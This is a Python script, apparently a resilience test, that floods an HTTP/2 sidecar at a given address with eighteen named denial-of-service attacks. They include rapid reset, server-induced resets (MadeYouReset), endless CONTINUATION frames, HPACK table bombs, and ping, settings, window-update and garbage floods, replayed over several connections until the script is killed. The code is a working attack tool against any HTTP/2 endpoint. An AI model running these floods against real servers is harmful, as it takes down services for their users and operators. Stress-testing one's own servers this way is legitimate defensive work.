"""Floods of frames, each against a sidecar of its own process: `python floods.py ADDRESS FLOOD read|unread` runs until it is killed."""

import os
import socket
import struct
import sys
import threading
import time
from itertools import count

from peer import (
    CONTINUATION,
    DATA,
    END_HEADERS,
    END_STREAM,
    GET,
    GOAWAY,
    HEADERS,
    MOST_WINDOW,
    PING,
    PREFACE,
    RST_STREAM,
    WATCH,
    block,
    field,
    frame,
    message,
    settings,
    window_update,
)

# A GetConfigRequest or WatchConfigRequest of the project demo/shop.
SHOP = message(b"\x0a\x09demo/shop")

CONNECTIONS = 4
# How much one connection sends before it is opened anew.
LENGTH = 2 << 20

# Each is a generator of what is sent, without end.


def call(stream: int, path: str = GET) -> bytes:
    return frame(HEADERS, END_HEADERS, stream, block(path)) + frame(DATA, END_STREAM, stream, SHOP)


def streams():
    return count(1, 2)


def rapid_reset():
    for stream in streams():
        yield call(stream) + frame(RST_STREAM, 0, stream, struct.pack(">I", 8))


def rapid_reset_of_watches():
    for stream in streams():
        yield call(stream, WATCH) + frame(RST_STREAM, 0, stream, struct.pack(">I", 8))


def resets_made_by_the_server():
    """A window that is opened too far has the server reset the stream (MadeYouReset)."""
    for stream in streams():
        yield frame(HEADERS, END_HEADERS, stream, block(WATCH)) + window_update(stream, MOST_WINDOW)


def continuations():
    """One head that never ends."""
    yield frame(HEADERS, 0, 1, block(GET))
    while True:
        yield frame(CONTINUATION, 0, 1, field("x", "y" * 1000))


def empty_continuations():
    yield frame(HEADERS, 0, 1, block(GET))
    while True:
        yield frame(CONTINUATION, 0, 1) * 100


def pings():
    while True:
        yield frame(PING, 0, 0, b"12345678") * 100


def settings_again():
    while True:
        yield settings(initial_window_size=1000) * 100


def settings_of_a_table():
    for size in count():
        yield settings(header_table_size=size % 2 * 4096) * 100


def window_updates():
    while True:
        yield window_update(0, 1) * 100


def empty_data():
    yield frame(HEADERS, END_HEADERS, 1, block(GET))
    while True:
        yield frame(DATA, 0, 1) * 100


def padded_data():
    """Two hundred bytes of padding for each of one."""
    yield frame(HEADERS, END_HEADERS, 1, block(GET))
    while True:
        yield frame(DATA, 8, 1, b"\xc8x" + b"\0" * 200)


def priorities():
    for stream in streams():
        yield frame(2, 0, stream, struct.pack(">IB", 0, 1)) * 100


def unknown_frames():
    while True:
        yield frame(77, 0, 0, b"x" * 1000)


def bombs_of_hpack():
    """A long header once in the table, then thousands of references to it."""
    long = b"\x40" + field("x", "y" * 3900)[1:]
    for stream in streams():
        references = b"\xbe" * 4000
        yield frame(HEADERS, END_HEADERS | END_STREAM, stream, block(GET) + (long if stream == 1 else b"") + references)


def long_headers():
    for stream in streams():
        yield frame(HEADERS, END_HEADERS, stream, block(GET) + field("x", "y" * 15_000))


def calls_without_end():
    for stream in streams():
        yield frame(HEADERS, END_HEADERS, stream, block(GET))


def goaways():
    while True:
        yield frame(GOAWAY, 0, 0, struct.pack(">II", 0, 0) + b"x" * 1000)


def garbage():
    while True:
        yield os.urandom(1000)


FLOODS = {
    "rapid_reset": rapid_reset,
    "rapid_reset_of_watches": rapid_reset_of_watches,
    "resets_made_by_the_server": resets_made_by_the_server,
    "continuations": continuations,
    "empty_continuations": empty_continuations,
    "pings": pings,
    "settings": settings_again,
    "settings_of_a_table": settings_of_a_table,
    "window_updates": window_updates,
    "empty_data": empty_data,
    "padded_data": padded_data,
    "priorities": priorities,
    "unknown_frames": unknown_frames,
    "bombs_of_hpack": bombs_of_hpack,
    "long_headers": long_headers,
    "calls_without_end": calls_without_end,
    "goaways": goaways,
    "garbage": garbage,
}


def read(connection: socket.socket) -> None:
    """Reads until nothing more comes for half a second."""
    try:
        while connection.recv(1 << 16):
            pass
    except OSError:
        pass


def flood(address: tuple[str, int], sent: bytes, reads: bool, said) -> None:
    """Sends the same over one connection after another. What is not taken for half a second, or not answered then, is given up."""
    while True:
        try:
            with socket.create_connection(address, timeout=5) as connection:
                # What was sent is lost when it is closed, so that at most one is ever read.
                connection.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
                connection.settimeout(0.5)
                answers = threading.Thread(target=read, args=(connection,), daemon=True)
                if reads:
                    answers.start()
                said()
                connection.sendall(sent)
                if reads:
                    answers.join(2)
                else:
                    time.sleep(0.5)
        except OSError:
            pass


def main(address: str, name: str, reads: str) -> None:
    host, port = address.rsplit(":", 1)
    sent = bytearray(PREFACE + settings(initial_window_size=MOST_WINDOW))
    for piece in FLOODS[name]():
        sent += piece
        if len(sent) > LENGTH:
            break
    first = threading.Event()
    arguments = ((host, int(port)), bytes(sent), reads == "read", first.set)
    for _ in range(CONNECTIONS):
        threading.Thread(target=flood, args=arguments, daemon=True).start()
    first.wait()
    print("flooding", flush=True)
    threading.Event().wait()


if __name__ == "__main__":
    main(*sys.argv[1:])
